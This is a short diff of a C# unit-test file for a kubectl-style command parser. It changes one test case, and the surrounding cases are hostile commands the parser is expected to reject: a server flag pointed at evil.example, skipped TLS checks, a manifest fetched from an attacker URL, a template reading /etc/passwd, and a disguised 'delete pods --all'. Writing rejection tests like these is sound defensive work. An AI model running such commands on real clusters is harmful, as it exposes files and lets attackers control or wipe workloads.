@@ -40,7 +40,7 @@ public sealed class CommandLineParserTests
     [InlineData("get pods -shttps://evil.example", "grammar.unsupported-flag")]
     [InlineData("get pods --insecure_skip_tls_verify", "grammar.unsupported-flag")]
     [InlineData("get pods -Av9", "grammar.unsupported-flag")]
-    [InlineData("get pods --raw /api", "grammar.unsupported-flag")]
+    [InlineData("describe pods --raw /api", "grammar.unsupported-flag")]
     [InlineData("apply -f http://evil.example/x.yaml", "grammar.filename")]
     [InlineData("get pods -o go-template-file=/etc/passwd", "grammar.file-output")]
     [InlineData("-n get delete pods --all", "grammar.ambiguous-verb")]
